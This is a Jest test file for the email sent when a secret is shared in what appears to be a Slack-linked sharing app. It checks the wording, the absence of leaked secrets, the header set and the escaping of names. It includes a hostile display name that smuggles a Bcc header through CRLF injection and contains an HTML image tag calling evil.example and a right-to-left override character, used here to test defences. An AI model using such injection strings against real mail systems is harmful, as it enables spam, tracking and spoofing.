// The mail itself, both parts taken apart: what it says, and that it holds nothing it should not: no secret, no password,
// no name, nothing from elsewhere, nothing that tells who reads it, and no word of the sender's that is not shown as it is.

import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { PEOPLE } from '../../sandbox/people.ts'
import type { ReceivedMail } from '../support/mail-server.ts'
import { linkIn, type OutsideStory, openOutsideStory, PASSWORD, untilMailed } from '../support/outside.ts'
import { type ShareWish, share } from '../support/sharing.ts'

const SECRET = 'the value & <nothing> else'
const NAME = 'Production database'
const EVIL =
  'Al <b>ice</b>\r\nBcc: all@evil.example\r\n\r\n\u202Emoc.live\u200B <img src=https://evil.example/p.png> &amp; "x"'

let story: OutsideStory
beforeAll(async () => {
  const people = [
    ...Object.values(PEOPLE).filter(({ id }) => id !== PEOPLE.carol.id),
    { ...PEOPLE.carol, name: EVIL, realName: EVIL },
  ]
  story = await openOutsideStory({ slack: { people } })
})
afterAll(() => story?.close())

async function mailFrom(
  sender: 'alice' | 'carol',
  wish: Partial<ShareWish> = {},
  to = 'dora@elsewhere.example',
) {
  const count = story.mail.mailsTo(to).length
  await share(story[sender], { secret: SECRET, name: NAME, password: PASSWORD, to: [], emails: to, ...wish })
  return untilMailed(story, to, count + 1)
}

const headerOf = ({ headers }: ReceivedMail, name: string) =>
  headers.filter(([one]) => one === name).map(([, value]) => value)

describe('the mail', () => {
  test('says in plain text who shared, how often it opens, until when, and where the password comes from', async () => {
    const mail = await mailFrom('alice')
    const { id, token } = linkIn(mail)
    expect(mail.text.split('\r\n\r\n')).toEqual([
      'alice shared a secret with you.',
      expect.stringMatching(/^It opens 1 time, until \d{1,2} [A-Z][a-z]+ \d{4}, \d\d:\d\d UTC\.$/),
      'You need the password for it. It is not in this mail: the sender gives it to you another way.',
      `${story.url}/s/${id}#${token}`,
      'Looking at the page uses nothing up. Only Reveal does, after the password.',
      'You were not expecting this? Ask the sender before you open it, by a way you know. If you do nothing, it expires.',
      '',
    ])
    const [, until = ''] = /until (.* UTC)/.exec(mail.text) ?? []
    const days = (Date.parse(until) - Date.now()) / 86_400_000
    expect(days).toBeGreaterThan(6.9)
    expect(days).toBeLessThan(7.1)
  })

  test('says the same in HTML, with the link in full', async () => {
    const mail = await mailFrom('alice', { views: '3' })
    const { id, token } = linkIn(mail)
    const words = mail.html.replace(/<style>.*<\/style>/s, '').replace(/<[^>]+>/g, ' ')
    expect(words).toMatch(
      /alice shared a secret with you\s+It opens 3 times in all, counted over everybody it was shared with, until/,
    )
    expect(words).toContain(`${story.url}/s/${id}#${token}`)
    const targets = [...mail.html.matchAll(/href="([^"]*)"/g)].map(([, target]) => target)
    expect(targets).toEqual([`${story.url}/s/${id}#${token}`, `${story.url}/s/${id}#${token}`])
  })

  test('says when it opens without a limit', async () => {
    expect((await mailFrom('alice', { views: 'No limit' })).text).toContain(
      'It can be opened any number of times, until',
    )
  })

  test('holds no value, no password and no name, anywhere', async () => {
    const mail = await mailFrom('alice')
    for (const what of [mail.raw, mail.text, mail.html]) {
      for (const kept of ['the value', PASSWORD, NAME, 'database', 'U0ALICE001', 'T0'])
        expect(what).not.toContain(kept)
    }
  })

  test('loads nothing, runs nothing and reports to nobody', async () => {
    const { html, headers } = await mailFrom('alice')
    expect(html).not.toMatch(/<(img|script|link|iframe|object|embed|form|video|audio|svg|base|meta http)/i)
    expect(html).not.toMatch(/\b(src|srcset|background|action|poster|on\w+)\s*=|url\(|@import|@font-face/i)
    const wanted = [
      'auto-submitted',
      'content-type',
      'date',
      'from',
      'message-id',
      'mime-version',
      'subject',
      'to',
    ]
    expect(headers.map(([name]) => name).sort()).toEqual(wanted)
  })

  test('is from whom the settings say, under a subject that names nobody, with ids that say nothing', async () => {
    const [first, second] = [await mailFrom('alice'), await mailFrom('alice')]
    expect(headerOf(first, 'from')).toEqual(['Share Secret <secrets@sandbox.example>'])
    expect(headerOf(first, 'to')).toEqual(['dora@elsewhere.example'])
    expect(headerOf(first, 'subject')).toEqual(['A secret was shared with you'])
    expect([first.from, first.to]).toEqual(['secrets@sandbox.example', 'dora@elsewhere.example'])
    const ids = [first, second].flatMap((mail) => headerOf(mail, 'message-id'))
    expect(ids.every((id) => /^<[\w-]{22}@sandbox\.example>$/.test(id))).toBe(true)
    const { id, token } = linkIn(first)
    expect(ids[0]).not.toContain(id)
    expect(token).not.toContain(ids[0]?.slice(1, 23))
    expect(new Set(ids).size).toBe(2)
  })

  test('shows a sender’s name as it is, on one line, whatever they call themselves', async () => {
    const mail = await mailFrom('carol')
    const [line = ''] = mail.text.split('\r\n')
    expect(line.startsWith('Al <b>ice</b> Bcc: all@evil.example moc.live <img src=')).toBe(true)
    expect(line.endsWith('… shared a secret with you.')).toBe(true)
    expect(mail.html).not.toMatch(/<b>|<img/)
    expect(mail.html).toContain('Al &#60;b&#62;ice&#60;/b&#62; Bcc: all@evil.example')
    expect(mail.raw).not.toMatch(/^Bcc:/im)
    expect(mail.raw).not.toContain('\u202E')
    expect(headerOf(mail, 'bcc')).toEqual([])
    expect(story.mail.mailsTo('all@evil.example')).toEqual([])
  })

  test('goes to one address, which is a header’s last word', async () => {
    // As odd as the contract lets one be.
    const odd = "_o'b+tag.x_y-z_@sub.elsewhere.example"
    const mail = await mailFrom('alice', {}, odd)
    expect([mail.to, headerOf(mail, 'to')]).toEqual([odd, [odd]])
    const card = await story.alice.waitForMessage(({ shown }) => shown.includes(`\`${odd}\`: mailed`))
    // As code: the underscores would make it italic and be gone.
    expect(card.shown.split('\n')).toContain(`\`${odd}\`: mailed`)
  })
})
